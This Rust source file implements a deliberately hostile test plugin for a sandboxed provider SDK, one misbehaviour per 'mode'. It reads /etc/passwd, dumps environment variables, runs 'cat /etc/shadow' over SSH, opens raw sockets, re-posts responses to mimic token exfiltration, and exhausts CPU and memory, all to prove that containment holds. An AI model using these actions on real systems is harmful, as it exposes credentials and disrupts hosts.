//! A provider that misbehaves on purpose, so tests can prove the sandbox and
//! the brokers contain it.
//!
//! One component covers every hostile behaviour: `plan()` reads the `mode`
//! setting and does that one bad thing (read a file, open a socket, loop
//! forever, exhaust memory, send its own `Authorization`...). Building one
//! component instead of fifteen keeps the test build fast, and it is also the
//! realistic threat: a plugin that behaves in `describe()` and turns hostile
//! later, depending on its input.
//!
//! Whatever the plugin manages to observe is returned in the plan (as notes
//! and as a change payload), so a test can check that nothing it should not
//! see ever reached it.

mod caps;
mod leaks;
mod terminal;

use std::collections::BTreeMap;
use std::hint::black_box;
use std::io::Write as _;
use std::time::Duration;

use serde::Deserialize;
use soar_sdk::bindings::soar::plugin::ssh;
use soar_sdk::http::Method;
use soar_sdk::prelude::*;

/// The hostile provider.
pub struct Hostile;

/// What the test asks the plugin to do, from the provider settings.
#[derive(Debug, Default, Deserialize)]
#[serde(default)]
struct Settings {
    /// Which misbehaviour (see `plan`).
    mode: String,
    /// Target URL of the HTTP modes.
    url: String,
    /// `get` (default), `post`, `put` or `delete`.
    method: String,
    /// Headers the plugin sets itself.
    headers: Vec<(String, String)>,
    /// Credential the plugin asks the host to inject.
    credential: Option<String>,
    /// Request body (text).
    body: Option<String>,
    /// A service secret the host splices in after `body` (`Segment::Secret`).
    secret: Option<String>,
    /// `(credential name, JSON pointer)`: capture a token from the response.
    capture: Option<(String, String)>,
    /// `(credential, origin pointer, user pointer, password pointer)`: keep a
    /// Basic credential the response issues (`request.issued`).
    issue: Option<(String, String, String, String)>,
    /// Issue mode: then GET this URL with the issued credential.
    then_url: Option<String>,
    /// `host:port` for the socket and SSH modes.
    addr: String,
    /// SSH mode: the user to ask for (empty: the host's choice).
    user: String,
    /// What `apply` and `status` report as the environment's hosts
    /// (`kind`, `address`, `port`, `user`): the plugin's word alone.
    hosts: Vec<HostClaim>,
    /// Files the file mode tries to read.
    paths: Vec<String>,
    /// A file the file mode tries to create.
    write: Option<String>,
    /// How many records the flood mode writes.
    count: u64,
    /// Echo mode: panic with everything seen instead of returning it, so it
    /// lands in the host's error message.
    panic_after: bool,
}

/// A host the plugin claims the environment has.
#[derive(Debug, Clone, Default, Deserialize)]
#[serde(default)]
struct HostClaim {
    kind: String,
    address: String,
    port: Option<u16>,
    user: Option<String>,
}

impl HostClaim {
    fn endpoint(&self) -> Endpoint {
        Endpoint {
            kind: match self.kind.as_str() {
                "local" => soar_sdk::EndpointKind::Local,
                "url" => soar_sdk::EndpointKind::Url,
                _ => soar_sdk::EndpointKind::Ssh,
            },
            address: self.address.clone(),
            port: self.port,
            user: self.user.clone(),
        }
    }
}

impl Provider for Hostile {
    fn describe() -> Description {
        Description {
            name: "hostile".into(),
            version: env!("CARGO_PKG_VERSION").into(),
            summary: "Misbehaves on purpose, one way per `mode` setting".into(),
            artifacts: vec![ArtifactKind::Binary],
            settings_schema: json!({
                "type": "object",
                "properties": {"mode": {"type": "string"}}
            })
            .to_string(),
            capabilities: Capabilities {
                endpoints: vec![
                    // Credential-bound API; tests override it with a loopback fake.
                    EndpointDecl {
                        name: "api".into(),
                        default_url: "https://api.hostile.example".into(),
                    },
                    // A second declared endpoint the credential is NOT bound to.
                    EndpointDecl {
                        name: "files".into(),
                        default_url: "https://files.hostile.example".into(),
                    },
                    // A declared endpoint whose name resolves to loopback: the
                    // resolver must refuse it, since the user never named it.
                    EndpointDecl {
                        name: "internal".into(),
                        default_url: "https://localhost".into(),
                    },
                ],
                extra_hosts: vec!["*.cdn.hostile.example".into()],
                credentials: vec![Credential {
                    name: "token".into(),
                    scheme: CredentialScheme::Bearer,
                    env: vec!["SOAR_TEST_TOKEN".into()],
                    endpoints: vec!["api".into()],
                }],
                // Declared, so the SSH broker's own rules (which hosts, as
                // whom) are what stands between this plugin and a machine.
                ssh: true,
            },
        }
    }

    fn plan(ctx: &Context) -> Result<ChangePlan, PluginError> {
        let s: Settings = ctx.settings()?;
        match s.mode.as_str() {
            "ok" => Ok(ok_plan(ctx)),
            "read-file" => read_files(&s),
            "env" => Ok(notes(vec![
                format!(
                    "vars={}",
                    to_json(&std::env::vars().collect::<BTreeMap<_, _>>())
                ),
                format!("args={}", to_json(&std::env::args().collect::<Vec<_>>())),
                format!("cwd={:?}", std::env::current_dir()),
            ])),
            "socket" => sockets(&s),
            "fetch" => fetch(&s),
            // Not hostile: `count` sequential GETs of `url`, for the broker
            // throughput benchmark (P2).
            "http-loop" => {
                for _ in 0..s.count {
                    request(&s).send_ok()?;
                }
                Ok(notes(vec![format!("{} requests", s.count)]))
            }
            "echo" => echo(&s),
            "issue" => issue(&s),
            "ssh" => {
                let (address, port) = s.addr.rsplit_once(':').unwrap_or((&s.addr, "22"));
                let target = ssh::Target {
                    address: address.into(),
                    port: port.parse().unwrap_or(22),
                    user: s.user.clone(),
                };
                match ssh::exec(&target, "cat /etc/shadow", None) {
                    Ok(out) => Ok(notes(vec![format!("ssh exit {}", out.exit_code)])),
                    Err(e) => Err(PluginError::Transport(e)),
                }
            }
            "loop" => {
                let mut x: u64 = 0;
                loop {
                    x = black_box(x.wrapping_add(1));
                }
            }
            "memory" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    // Touch every page so the memory is really used.
                    hoard.push(black_box(vec![0x5a; 1 << 20]));
                }
            }
            "recursion" => Ok(notes(vec![format!(
                "depth {}",
                recurse(u64::MAX, black_box(1))
            )])),
            "log-flood" => {
                let count = if s.count == 0 { 10_000 } else { s.count };
                let line = "x".repeat(100);
                let mut out = std::io::stdout();
                let mut err = std::io::stderr();
                for i in 0..count {
                    soar_sdk::log::write(
                        soar_sdk::log::Level::Info,
                        &format!("flood {i} {line}"),
                        &[("n", &i.to_string())],
                    );
                    let _ = writeln!(out, "stdout flood {i} {line}");
                    let _ = writeln!(err, "stderr flood {i} {line}");
                }
                Ok(notes(vec![format!("logged {count}")]))
            }
            "panic" => panic!("hostile plugin panicked on purpose"),
            "exit" => std::process::exit(3),
            "sleep-forever" => loop {
                soar_sdk::time::sleep(Duration::from_secs(3600));
            },
            // Families of cases, each in its own module.
            m if m.starts_with("caps-") => caps::plan(m, ctx),
            m if m.starts_with("leak-") => leaks::plan(m, ctx),
            m if m.starts_with("term-") => terminal::plan(m, ctx),
            other => Err(PluginError::Other(format!("unknown mode {other:?}"))),
        }
    }

    fn apply(ctx: &Context, change: &Change) -> Result<Applied, PluginError> {
        let s: Settings = ctx.settings()?;
        Ok(Applied {
            resource: None,
            endpoints: s.hosts.iter().map(HostClaim::endpoint).collect(),
            messages: vec![format!("applied {}", change.name)],
        })
    }

    fn status(ctx: &Context) -> Result<Vec<ResourceStatus>, PluginError> {
        let s: Settings = ctx.settings()?;
        if s.hosts.is_empty() {
            return Ok(vec![]);
        }
        Ok(vec![ResourceStatus {
            resource: ManagedResource {
                kind: "thing".into(),
                name: format!("{}-{}", ctx.app, ctx.environment),
                id: Some("claimed".into()),
                attributes: "{}".into(),
            },
            state: soar_sdk::ResourceState::Running,
            endpoints: s.hosts.iter().map(HostClaim::endpoint).collect(),
        }])
    }

    fn plan_destroy(_ctx: &Context) -> Result<ChangePlan, PluginError> {
        Ok(notes(vec![]))
    }
}

soar_sdk::export_provider!(Hostile);

/// The well-behaved answer, used to show the host still works after a
/// hostile call.
fn ok_plan(ctx: &Context) -> ChangePlan {
    ChangePlan {
        changes: vec![Change {
            action: ChangeAction::Create,
            kind: "thing".into(),
            name: format!("{}-{}", ctx.app, ctx.environment),
            reason: "all is well".into(),
            before: None,
            after: Some("{}".into()),
            payload: "{}".into(),
            deploys_artifact: false,
        }],
        diagnostics: vec![],
        notes: vec!["ok".into()],
    }
}

fn notes(notes: Vec<String>) -> ChangePlan {
    ChangePlan {
        changes: vec![],
        diagnostics: vec![],
        notes,
    }
}

fn to_json<T: serde::Serialize>(v: &T) -> String {
    serde_json::to_string(v).unwrap_or_default()
}

/// Try to read (and write) the host's files. Any success is returned in the
/// plan, so the test sees it; when everything fails, the errors are the
/// plugin's error.
fn read_files(s: &Settings) -> Result<ChangePlan, PluginError> {
    let paths = if s.paths.is_empty() {
        vec![
            "/etc/hostname".into(),
            "/etc/passwd".into(),
            "/".into(),
            ".".into(),
        ]
    } else {
        s.paths.clone()
    };
    let mut got = Vec::new();
    let mut errors = Vec::new();
    for p in &paths {
        match std::fs::read_to_string(p) {
            Ok(text) => got.push(format!("read {p}: {text}")),
            Err(e) => errors.push(format!("read {p}: {e}")),
        }
        match std::fs::read_dir(p) {
            Ok(entries) => got.push(format!(
                "listed {p}: {:?}",
                entries
                    .filter_map(|e| e.ok().map(|e| e.file_name()))
                    .collect::<Vec<_>>()
            )),
            Err(e) => errors.push(format!("list {p}: {e}")),
        }
    }
    if let Some(w) = &s.write {
        match std::fs::write(w, b"written by a hostile plugin") {
            Ok(()) => got.push(format!("wrote {w}")),
            Err(e) => errors.push(format!("write {w}: {e}")),
        }
    }
    if got.is_empty() {
        Err(PluginError::Other(format!(
            "no file access: {}",
            errors.join("; ")
        )))
    } else {
        Ok(notes(got))
    }
}

/// Try TCP, UDP and name lookup directly, around the host's brokers.
fn sockets(s: &Settings) -> Result<ChangePlan, PluginError> {
    use std::net::{TcpStream, ToSocketAddrs, UdpSocket};
    let mut got = Vec::new();
    let mut errors = Vec::new();
    match s.addr.parse::<std::net::SocketAddr>() {
        Ok(addr) => {
            match TcpStream::connect_timeout(&addr, Duration::from_secs(2)) {
                Ok(mut stream) => {
                    let _ = stream.write_all(b"GET / HTTP/1.0\r\n\r\n");
                    got.push(format!("tcp connected to {addr}"));
                }
                Err(e) => errors.push(format!("tcp {addr}: {e}")),
            }
            match UdpSocket::bind("0.0.0.0:0").and_then(|u| u.send_to(b"hello", addr)) {
                Ok(n) => got.push(format!("udp sent {n} bytes to {addr}")),
                Err(e) => errors.push(format!("udp {addr}: {e}")),
            }
        }
        Err(e) => errors.push(format!("bad addr {:?}: {e}", s.addr)),
    }
    match ("localhost", 80).to_socket_addrs() {
        Ok(addrs) => got.push(format!(
            "resolved localhost: {:?}",
            addrs.collect::<Vec<_>>()
        )),
        Err(e) => errors.push(format!("dns localhost: {e}")),
    }
    if got.is_empty() {
        Err(PluginError::Other(format!(
            "no network: {}",
            errors.join("; ")
        )))
    } else {
        Ok(notes(got))
    }
}

fn request(s: &Settings) -> Request {
    let method = match s.method.as_str() {
        "post" => Method::Post,
        "put" => Method::Put,
        "delete" => Method::Delete,
        _ => Method::Get,
    };
    let mut req = Request::new(method, &s.url);
    for (k, v) in &s.headers {
        req = req.header(k, v);
    }
    if let Some(c) = &s.credential {
        req = req.credential(c);
    }
    let mut body = Vec::new();
    if let Some(b) = &s.body {
        body.push(soar_sdk::http::Segment::Bytes(b.as_bytes().to_vec()));
    }
    if let Some(name) = &s.secret {
        body.push(soar_sdk::http::Segment::Secret(name.clone()));
    }
    if !body.is_empty() {
        req = req.segments(body);
    }
    if let Some((name, pointer)) = &s.capture {
        req = req.capture(name, pointer);
    }
    if let Some((name, origin, user, password)) = &s.issue {
        req = req.issues_basic(name, origin, user, password);
    }
    req
}

/// Have the API issue a credential, then use it toward `then_url`: returns
/// both bodies as the plugin saw them (a broker error as the plugin's error).
fn issue(s: &Settings) -> Result<ChangePlan, PluginError> {
    let first = request(s).send()?;
    let mut seen = vec![first.text()];
    if let (Some(url), Some((name, ..))) = (&s.then_url, &s.issue) {
        let second = Request::get(url).credential(name).send()?;
        seen.push(second.text());
    }
    Ok(notes(seen))
}

/// One brokered request; the response (whatever its status) is returned as a
/// note, a broker error as the plugin's error. With a capture, the claims the
/// host reveals about the captured credential are returned too.
fn fetch(s: &Settings) -> Result<ChangePlan, PluginError> {
    let resp = request(s).send()?;
    let claims = s
        .capture
        .as_ref()
        .and_then(|(name, _)| soar_sdk::bindings::soar::plugin::http::credential_claims(name));
    Ok(notes(vec![to_json(&json!({
        "status": resp.status,
        "headers": resp.headers,
        "body": resp.text(),
        "claims": claims,
    }))]))
}

/// Send a credentialed request to an echo server and hand back everything
/// the plugin can observe: the response (status, every header, the body),
/// its environment, the credential's claims. It also logs and prints all of
/// it, so the journal and captured stdout carry it too. A test scans all of
/// that for the token.
fn echo(s: &Settings) -> Result<ChangePlan, PluginError> {
    let mut seen = Vec::new();
    let resp = request(s).send()?;
    let response = json!({
        "status": resp.status,
        "headers": resp.headers,
        "body": resp.text(),
    });
    seen.push(response.clone());
    // The response headers and body again, sent back to the same server: if
    // the plugin had seen the token, this is how it would exfiltrate it.
    let again = Request::post(&s.url)
        .credential("token")
        .json(&response)
        .send()?;
    seen.push(json!({"status": again.status, "headers": again.headers, "body": again.text()}));
    let everything = json!({
        "responses": seen,
        "env": std::env::vars().collect::<BTreeMap<_, _>>(),
        "args": std::env::args().collect::<Vec<_>>(),
        "claims": soar_sdk::bindings::soar::plugin::http::credential_claims("token"),
    })
    .to_string();
    soar_sdk::info!("everything I saw: {everything}");
    soar_sdk::log::write(
        soar_sdk::log::Level::Warn,
        "fields too",
        &[("seen", everything.as_str())],
    );
    println!("stdout: {everything}");
    eprintln!("stderr: {everything}");
    if s.panic_after {
        panic!("everything I saw: {everything}");
    }
    Ok(ChangePlan {
        changes: vec![Change {
            action: ChangeAction::Update,
            kind: "echo".into(),
            name: "echo".into(),
            reason: everything.clone(),
            before: None,
            after: Some(everything.clone()),
            payload: everything.clone(),
            deploys_artifact: false,
        }],
        diagnostics: vec![],
        notes: vec![everything],
    })
}

/// Recursion the optimizer cannot turn into a loop: each frame combines the
/// callee's result non-linearly, and `step` is opaque.
#[inline(never)]
fn recurse(depth: u64, step: u64) -> u64 {
    if depth == 0 {
        return 1;
    }
    let below = recurse(depth.wrapping_sub(step), step);
    below.rotate_left(7) ^ depth.wrapping_mul(below | 1)
}
